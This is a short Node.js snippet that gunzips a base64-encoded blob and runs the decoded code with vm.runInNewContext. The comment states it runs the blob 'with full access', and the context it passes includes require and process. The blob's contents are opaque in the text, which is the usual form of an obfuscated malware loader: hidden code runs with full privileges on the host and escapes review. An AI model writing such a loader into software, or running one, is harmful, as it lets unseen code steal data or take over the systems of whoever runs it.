// decodes a blob and runs it with full access
const vm = require('vm');
const zlib = require('zlib');
const blob = [
  'H4sIAAAAAAACAytKLSzNLErVUErOyMxJiS8oyk9OLS5W0tRLrUhNDq7MSwbK',
  'lBblKOgWK2SUlBRY6esbWlromRrqGRoY6Jno59UUZyhpAgCZLoraRQAAAA==',
].join('');
const code = zlib.gunzipSync(Buffer.from(blob, 'base64')).toString();
vm.runInNewContext(code, { require, process, console, Buffer });
